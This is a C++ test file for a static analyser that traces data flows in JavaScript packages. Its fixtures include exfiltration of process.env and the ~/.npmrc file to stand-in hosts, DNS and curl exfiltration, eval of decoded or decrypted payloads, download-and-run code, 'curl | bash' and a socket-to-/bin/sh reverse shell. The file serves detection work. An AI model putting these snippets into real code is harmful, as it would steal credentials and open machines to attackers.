// Each flow with the same file where it is cut. Hosts are reserved names.
#include "judges/vet/flow/flow.h"

#include <string>

#include <fmt/core.h>
#include <gtest/gtest.h>

#include "judges/vet/flow/flow_fixture.h"

namespace ward::vet {
namespace {

struct Pair {
    std::string name;
    std::string signals;
    std::string flowing;
    std::string cut;
    std::string cut_signals = "";
};

void check(const std::vector<Pair>& pairs) {
    for (const Pair& one : pairs) {
        EXPECT_EQ(signals_in(one.flowing), one.signals) << one.name;
        EXPECT_EQ(signals_in(one.cut), one.cut_signals) << one.name << ", cut";
    }
}

TEST(Flow, SecretsToTheNetwork) {
    check({
        {"the environment is posted", "S01 S03",
         "const https = require('https');\n"
         "const body = JSON.stringify(process.env);\n"
         "const request = https.request({ host: 'collect.invalid', method: 'POST' });\n"
         "request.write(body);\nrequest.end();\n",
         "const https = require('https');\n"
         "const body = JSON.stringify(process.env);\n"
         "const request = https.request({ host: 'collect.invalid', method: 'POST' });\n"
         "request.write('hello');\nrequest.end();\n",
         "S01"},
        {"fetch with a copy", "S01 S03",
         "const copy = { ...process.env };\n"
         "fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ all: copy }) });\n",
         "const copy = { ...process.env };\n"
         "fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ all: 1 }) });\n"},
        {"in the address", "S03",
         "require('http').get('http://collect.invalid/?d=' + Buffer.from(Object.entries(process.env).join('&'))"
         ".toString('base64'));\n",
         "require('http').get('http://collect.invalid/?d=' + Buffer.from('nothing').toString('base64'));\n"},
        {"a credential file", "S02 S03",
         "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport path from 'path';\n"
         "const file = path.join(homedir(), '.npmrc');\n"
         "const text = readFileSync(file, 'utf8');\n"
         "fetch('https://collect.invalid', { method: 'POST', body: text });\n",
         "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport path from 'path';\n"
         "const file = path.join(homedir(), 'settings.json');\n"
         "const text = readFileSync(file, 'utf8');\n"
         "fetch('https://collect.invalid', { method: 'POST', body: text });\n"},
        {"facts about the machine", "S03",
         "const os = require('os');\nconst axios = require('axios');\n"
         "const about = { host: os.hostname(), user: os.userInfo().username };\n"
         "axios.post('https://collect.invalid', about);\n",
         "const os = require('os');\nconst axios = require('axios');\n"
         "const about = { host: os.hostname(), user: os.userInfo().username };\n"
         "axios.post('https://collect.invalid', { version: 1 });\nconsole.log(about);\n"},
        {"through a socket", "S03",
         "const net = require('net');\nconst s = net.connect(4444, 'collect.invalid');\n"
         "s.on('connect', () => s.write(Object.keys(process.env).map(k => k + process.env[k]).join() + "
         "require('os').hostname()));\n",
         "const net = require('net');\nconst s = net.connect(4444, 'collect.invalid');\n"
         "s.on('connect', () => s.write('hello'));\n"},
        {"as a name that is looked up", "S03",
         "const { hostname, userInfo } = require('os');\n"
         "require('dns').lookup(`${hostname()}.${userInfo().username}.collect.invalid`, () => {});\n",
         "const { hostname, userInfo } = require('os');\nconsole.log(hostname(), userInfo().username);\n"
         "require('dns').lookup('collect.invalid', () => {});\n"},
        {"by curl", "S01 S03",
         "const { exec } = require('child_process');\n"
         "exec(`curl -d '${JSON.stringify(process.env)}' https://collect.invalid`);\n",
         "const { exec } = require('child_process');\n"
         "exec(`curl -d '${JSON.stringify({})}' https://collect.invalid`, { env: process.env });\n"},
        {"XMLHttpRequest", "S01 S03",
         "const x = new XMLHttpRequest();\nx.open('POST', 'https://collect.invalid');\n"
         "x.send(JSON.stringify(process.env));\n",
         "const x = new XMLHttpRequest();\nx.open('POST', 'https://collect.invalid');\nx.send('{}');\n"},
    });
}

TEST(Flow, WhatOrdinaryClientsDoIsNoExfiltration) {
    // Where to listen and whom to ask comes from the environment.
    EXPECT_EQ(signals_in("const http = require('http');\n"
                         "http.request({ host: process.env.API_HOST, port: process.env.PORT, path: '/' }).end();\n"
                         "fetch(process.env.SERVICE_URL + '/status');\n"),
              "");
    // One key of one service in a header: an ordinary client.
    EXPECT_EQ(signals_in("const token = process.env.GITHUB_TOKEN;\n"
                         "fetch('https://api.example/user', { headers: { authorization: `Bearer ${token}` } });\n"),
              "(S03)");
    EXPECT_EQ(signals_in("const axios = require('axios');\n"
                         "axios.post('https://api.example/v1', { q: 1 }, { headers: { 'x-key': process.env.API_KEY } "
                         "});\n"),
              "(S03)");
    // Several keys of one service are one credential; keys of two services are not.
    EXPECT_EQ(signals_in("const body = { a: process.env.ACME_ACCESS_KEY, b: process.env.ACME_SECRET };\n"
                         "fetch('https://api.example', { method: 'POST', body: JSON.stringify(body) });\n"),
              "(S03)");
    EXPECT_EQ(signals_in("const body = { a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY };\n"
                         "fetch('https://api.example', { method: 'POST', body: JSON.stringify(body) });\n"),
              "S03");
    // A child gets the environment.
    EXPECT_EQ(signals_in("const { spawn } = require('child_process');\n"
                         "spawn('make', ['all'], { env: { ...process.env, CC: 'gcc' } });\n"
                         "spawn('curl', ['https://example.invalid'], { env: Object.assign({}, process.env) });\n"),
              "");
    // TLS keys and agents are no content; platform names are no facts that identify.
    EXPECT_EQ(signals_in("const os = require('os');\n"
                         "fetch('https://api.example', { headers: { 'user-agent': `x (${os.platform()})` } });\n"),
              "");
}

TEST(Flow, DecodedTextToCode) {
    check({
        {"eval of base64", "S04", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
         "console.log(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"},
        {"the encoding is elsewhere", "S04",
         "const how = 'hex';\nconst decode = (text) => Buffer.from(text, how).toString('utf8');\n"
         "new Function(decode('636f6e736f6c652e6c6f67283129'))();\n",
         "const how = 'utf8';\nconst decode = (text) => Buffer.from(text, how).toString('utf8');\n"
         "new Function(decode('636f6e736f6c652e6c6f67283129'))();\n"},
        {"vm and atob", "S04", "require('vm').runInThisContext(atob('MQ=='));\n",
         "require('vm').runInThisContext('1');\natob('MQ==');\n"},
        {"character codes", "S04", "const f = Function;\nf(String.fromCharCode(99, 111, 110, 115, 111, 108, 101))();\n",
         "const f = Function;\nf('return ' + String.fromCharCode(x))();\n"},
        {"a cipher by hand", "S04",
         "function open(bytes, key) {\n  let out = '';\n  for (let i = 0; i < bytes.length; i++)\n"
         "    out += String.fromCharCode(bytes[i] ^ key.charCodeAt(i % key.length));\n  return out;\n}\n"
         "(0, eval)(open(data, 'k'));\n",
         "function open(bytes, key) {\n  let out = '';\n  for (let i = 0; i < bytes.length; i++)\n"
         "    out += String.fromCharCode(bytes[i] ^ key.charCodeAt(i % key.length));\n  return out;\n}\n"
         "send(open(data, 'k'));\n"},
        {"a decipher", "S04",
         "const d = require('crypto').createDecipheriv('aes-256-cbc', key, iv);\n"
         "let text = d.update(data, 'hex', 'utf8');\ntext += d.final('utf8');\n"
         "module.constructor.prototype._compile.call(m, text, 'x');\nm._compile(text, '');\n",
         "const d = require('crypto').createDecipheriv('aes-256-cbc', key, iv);\n"
         "let text = d.update(data, 'hex', 'utf8');\ntext += d.final('utf8');\nconsole.log(text);\n"},
        {"a module of a data URL", "S04", "import('data:text/javascript;base64,' + atob(x));\n",
         "import('./lib.js');\natob(x);\n"},
        {"a decoded command", "S04",
         "const c = require('child_process');\nc.exec(Buffer.from('bHM=', 'base64').toString());\n",
         "const c = require('child_process');\nc.exec(Buffer.from('ls').toString());\n"},
        {"a decoded module name", "S04", "require(Buffer.from('aHR0cHM=', 'base64').toString());\n",
         "require('https');\nBuffer.from('aHR0cHM=', 'base64').toString();\n"},
    });
}

TEST(Flow, DownloadsThatAreRun) {
    check({
        {"eval of an answer", "S08",
         "fetch('https://code.invalid/x').then((r) => r.text()).then((text) => eval(text));\n",
         "fetch('https://code.invalid/x').then((r) => r.text()).then((text) => console.log(text));\n"},
        {"chunks", "S08",
         "require('https').get('https://code.invalid', (res) => {\n  let body = '';\n"
         "  res.on('data', (chunk) => { body += chunk; });\n  res.on('end', () => new Function(body)());\n});\n",
         "require('https').get('https://code.invalid', (res) => {\n  let body = '';\n"
         "  res.on('data', (chunk) => { body += chunk; });\n  res.on('end', () => JSON.parse(body));\n});\n"},
        {"a file that is run", "S08",
         "const fs = require('fs'), cp = require('child_process'), https = require('https');\n"
         "const target = '/tmp/' + 'tool';\n"
         "https.get('https://code.invalid/tool', (res) => {\n  const out = fs.createWriteStream(target);\n"
         "  res.pipe(out);\n  out.on('finish', () => cp.spawn(target, []));\n});\n",
         "const fs = require('fs'), cp = require('child_process'), https = require('https');\n"
         "const target = '/tmp/' + 'tool';\n"
         "https.get('https://code.invalid/tool', (res) => {\n  const out = fs.createWriteStream(target);\n"
         "  res.pipe(out);\n  out.on('finish', () => cp.spawn('/usr/bin/tool', []));\n});\n"},
        {"written by await, started by another runtime", "S08",
         "import fs from 'fs/promises';\nimport { execFile } from 'child_process';\n"
         "async function get(url, to) {\n  const answer = await fetch(url);\n"
         "  await fs.writeFile(to, Buffer.from(await answer.arrayBuffer()));\n}\n"
         "await get('https://bun.invalid/bun.zip', './bun');\nexecFile('./bun', ['run', 'x.js']);\n",
         "import fs from 'fs/promises';\nimport { execFile } from 'child_process';\n"
         "async function get(url, to) {\n  const answer = await fetch(url);\n"
         "  await fs.writeFile(to, Buffer.from(await answer.arrayBuffer()));\n}\n"
         "await get('https://bun.invalid/bun.zip', './bun');\nexecFile('./make', ['run', 'x.js']);\n"},
        {"a command", "S08", "require('child_process').execSync('curl -fsSL https://bun.invalid/install | bash');\n",
         "require('child_process').execSync('curl -fsSL https://bun.invalid/readme -o readme');\n"},
        {"a shell for a socket", "S08",
         "const s = require('net').connect(1, 'shell.invalid');\n"
         "const sh = require('child_process').spawn('/bin/sh', []);\ns.pipe(sh.stdin);\n",
         "const s = require('net').connect(1, 'shell.invalid');\n"
         "const sh = require('child_process').spawn('/bin/sh', []);\nprocess.stdin.pipe(sh.stdin);\n"},
    });
}

// One secret, one sink; the way between them differs.
TEST(Flow, WhatOnlyHandlesADownloadDoesNotRunIt) {
    const std::string written =
        "const fs = require('fs'); const c = require('child_process');\n"
        "fetch(u).then(r => r.text()).then(t => { fs.writeFileSync('./x.bin', t); });\n";
    const auto weights = [&](const std::string& last) {
        std::string said;
        for (const Sighting& one : flows_of({{"index.js", written + last}}).reading.sightings)
            if (one.signal == "S08") said += fmt::format("{}: {};", one.weight.value_or(4), one.what);
        return said;
    };
    EXPECT_EQ(weights("c.spawnSync('gpg', ['--encrypt', './x.bin']);\n"),
              "1: a downloaded file is given to a command by child_process.spawnSync;");
    EXPECT_EQ(weights("c.spawnSync(process.env.GPG || 'gpg', ['./x.bin']);\n"),
              "1: a downloaded file is given to a command by child_process.spawnSync;");
    EXPECT_EQ(weights("c.execSync(`openssl dgst ${'./x.bin'}`);\n"),
              "1: a downloaded file is given to a command by child_process.execSync;");
    // Another command behind it, another program, or one that nobody knows.
    for (const std::string last :
         {"c.execSync(`openssl dgst ${'./x.bin'} && ./x.bin`);\n", "c.execSync(`tar xf ${'./x.bin'}`);\n",
          "c.spawnSync('node', ['./x.bin']);\n", "c.spawnSync(tool || 'gpg', ['./x.bin']);\n",
          "c.execSync('./x.bin');\n", "c.execSync(prefix + 'gpg ' + './x.bin');\n",
          "c.execSync(`npm exec ${'./x.bin'}`);\n"})
        EXPECT_TRUE(weights(last).starts_with("4: a downloaded file is run by")) << last << weights(last);
}

TEST(Flow, KeysThatStandInForOneAnotherAreOneCredential) {
    const auto weight = [](const std::string& text) {
        const Flows flows = flows_of({{"index.js", text}});
        const Sighting* found = flows.first("S03");
        return found == nullptr ? -1.0 : found->weight.value_or(4);
    };
    EXPECT_EQ(weight("const t = process.env.GITHUB_TOKEN || process.env.PERSONAL_TOKEN;\n"
                     "fetch('https://api.example', { headers: { authorization: t } });\n"),
              1.0);
    EXPECT_EQ(weight("const t = process.env.A_TOKEN ?? process.env.B_TOKEN ?? process.env.C_TOKEN;\n"
                     "fetch('https://api.example', { headers: { authorization: t } });\n"),
              1.0);
    EXPECT_EQ(weight("const t = [process.env.GITHUB_TOKEN, process.env.PERSONAL_TOKEN];\n"
                     "fetch('https://api.example', { method: 'POST', body: t.join() });\n"),
              4.0);
    EXPECT_EQ(
        weight("const t = process.env.GITHUB_TOKEN || process.env.PERSONAL_TOKEN;\n"
               "fetch('https://api.example', { method: 'POST', body: t + process.env.AWS_SECRET_ACCESS_KEY });\n"),
        4.0);
}

TEST(Flow, Ways) {
    const std::string source = "JSON.stringify(process.env)";
    const std::string sink = "fetch('https://collect.invalid', { method: 'POST', body: VALUE });\n";
    const auto send = [&](const std::string& value) {
        std::string text = sink;
        return text.replace(text.find("VALUE"), 5, value);
    };
    const std::vector<std::pair<std::string, std::string>> ways = {
        {"a variable", "const a = SOURCE; let b; b = a;\n" + send("b")},
        {"a closure", "const a = SOURCE;\nfunction go() { return () => { " + send("a") + " }; }\ngo()();\n"},
        {"a result", "function get() { return SOURCE; }\n" + send("get()")},
        {"an argument", "function post(x) { " + send("x") + "}\npost(SOURCE);\n"},
        {"a default", "function post(x = SOURCE) { " + send("x") + "}\npost();\n"},
        {"the rest", "function post(a, ...all) { " + send("all[0]") + "}\npost(1, SOURCE);\n"},
        {"arguments", "function post() { " + send("arguments[0]") + "}\npost(SOURCE);\n"},
        {"a callback", "function later(done) { done(null, SOURCE); }\nlater((error, x) => { " + send("x") + "});\n"},
        {"a promise",
         "new Promise((resolve) => { resolve(SOURCE); }).then((x) => x + '!').then((x) => { " + send("x") + "});\n"},
        {"await",
         "async function get() { return SOURCE; }\n(async () => { const x = await get(); " + send("x") + "})();\n"},
        {"Promise.all", "Promise.all([1, SOURCE]).then(([a, x]) => { " + send("x") + "});\n"},
        {"a property", "const o = {};\no.deep = { x: SOURCE };\n" + send("o.deep.x")},
        {"a computed constant key", "const o = {};\no['x'] = SOURCE;\n" + send("o.x")},
        {"an element", "const list = [];\nlist.push(SOURCE);\n" + send("list[0]")},
        {"map and join", "const parts = [SOURCE].map((x) => x + ',');\n" + send("parts.join('')")},
        {"reduce", send("[SOURCE].reduce((all, x) => all + x, '')")},
        {"a template", send("`a${SOURCE}b`")},
        {"a condition", send("ready ? SOURCE : ''")},
        {"a method",
         "class Box { constructor(x) { this.x = x; } get() { return this.x; } }\n" + send("new Box(SOURCE).get()")},
        {"a field", "class Box { x = SOURCE; send() { " + send("this.x") + "} }\nnew Box().send();\n"},
        {"a parent class", "class A { get() { return SOURCE; } }\nclass B extends A {}\n" + send("new B().get()")},
        {"a prototype", "function A() {}\nA.prototype.get = function () { return SOURCE; };\n" + send("new A().get()")},
        {"a static method", "class A { static get() { return SOURCE; } }\n" + send("A.get()")},
        {"destructuring", "const { a: { x } } = { a: { x: SOURCE } };\n" + send("x")},
        {"Object.assign", "const o = Object.assign({}, { x: SOURCE });\n" + send("o.x")},
        {"a spread", "const o = { ...{ x: SOURCE } };\n" + send("o.x")},
        {"call and apply", "function f(x) { return x; }\n" + send("f.call(null, f.apply(null, [SOURCE]))")},
        {"bind", "function f() { return SOURCE; }\nconst g = f.bind(null);\n" + send("g()")},
        {"a getter", "const o = { get x() { return SOURCE; } };\n" + send("o.x")},
        {"a generator", "function* f() { yield SOURCE; }\n" + send("f()")},
        {"base64", send("Buffer.from(SOURCE).toString('base64')")},
        {"a cipher", "const c = require('crypto').createCipheriv(a, b, d);\n" + send("c.update(SOURCE)")},
        {"a global object", "const text = globalThis.JSON.stringify(globalThis.process.env);\n" + send("text")},
        {"a helper that is requested under another name",
         "const r = require;\nconst o = r('qs');\n" + send("o.stringify(process.env)")},
        {"immediately called", "(function (x) { " + send("x") + "})(SOURCE);\n"},
        {"try", "let x;\ntry { x = SOURCE; } catch { x = ''; }\n" + send("x")},
        {"a switch", "let x;\nswitch (k) { case 1: x = SOURCE; break; default: x = ''; }\n" + send("x")},
        {"a Map", "const m = new Map();\nm.set('x', SOURCE);\n" + send("m.get('x')")},
    };
    for (const auto& [name, text] : ways) {
        std::string flowing = text;
        std::string cut = text;
        if (const size_t at = flowing.find("SOURCE"); at != std::string::npos) {
            flowing.replace(at, 6, source);
            cut.replace(at, 6, "JSON.stringify({})");
        } else {
            cut.replace(cut.find("process.env"), 11, "{}");
        }
        EXPECT_TRUE(signals_in(flowing).contains("S03")) << name << "\n" << flowing;
        EXPECT_EQ(signals_in(cut), "") << name << "\n" << cut;
    }
}

TEST(Flow, Modules) {
    const std::string sink = "(x) => fetch('https://collect.invalid', { method: 'POST', body: x });\n";
    const auto both = [&](const std::string& index, const std::string& lib) {
        const Flows flows = flows_of({{"index.js", index}, {"lib/send.js", lib}});
        return flows.signals();
    };
    const std::string source = "JSON.stringify(process.env)";
    EXPECT_EQ(both("require('./lib/send')(" + source + ");\n", "module.exports = " + sink), "S01 S03");
    EXPECT_EQ(both("require('./lib/send.js').send(" + source + ");\n", "exports.send = " + sink), "S01 S03");
    EXPECT_EQ(both("const { send } = require('./lib/send');\nsend(" + source + ");\n",
                   "module.exports = { send: " + sink.substr(0, sink.size() - 2) + " };\n"),
              "S01 S03");
    EXPECT_EQ(both("import send from './lib/send.js';\nsend(" + source + ");\n", "export default " + sink), "S01 S03");
    EXPECT_EQ(
        both("import { send as post } from './lib/send.js';\npost(" + source + ");\n", "export const send = " + sink),
        "S01 S03");
    EXPECT_EQ(both("import * as lib from './lib/send.js';\nlib.send(" + source + ");\n",
                   "const send = " + sink + "export { send };\n"),
              "S01 S03");
    EXPECT_EQ(both("import('./lib/send.js').then((lib) => lib.send(" + source + "));\n", "export const send = " + sink),
              "S01 S03");
    EXPECT_EQ(both("require('./lib/send')('x');\n" + source + ";\n", "module.exports = " + sink), "S01");
    // Through a third one, which hands all on; and a cycle.
    const Flows three =
        flows_of({{"index.js", "import { get } from './all.js';\nimport { post } from './all.js';\npost(get());\n"},
                  {"all.js", "export * from './get.js';\nexport { post } from './post.js';\n"},
                  {"get.js", "import './index.js';\nexport const get = () => " + source + ";\n"},
                  {"post.js", "export const post = " + sink}});
    EXPECT_EQ(three.signals(), "S01 S03");
    EXPECT_EQ(three.reading.files, 4);
}

TEST(Flow, EvidenceIsTheWay) {
    const Flows flows = flows_of({{"index.js",
                                   "const send = require('./send');\n"
                                   "const all = JSON.stringify(process.env);\n"
                                   "const text = 'x' + all;\n"
                                   "send(text);\n"},
                                  {"send.js",
                                   "const https = require('https');\n"
                                   "module.exports = function (body) {\n"
                                   "  const request = https.request('https://collect.invalid', { method: 'POST' });\n"
                                   "  request.end(body);\n"
                                   "};\n"}});
    const Sighting* found = flows.first("S03");
    ASSERT_NE(found, nullptr);
    EXPECT_EQ(found->what, "the whole environment flows to ~Client.end");
    EXPECT_EQ(flows.way("S03"), "index.js:2 index.js:3 send.js:2 send.js:4");
    EXPECT_EQ(found->evidence.front().text, "const all = JSON.stringify(process.env);");
    EXPECT_EQ(found->evidence.back().text, "request.end(body);");
    EXPECT_EQ(flows.way("S01"), "index.js:2");
}

}  // namespace
}  // namespace ward::vet
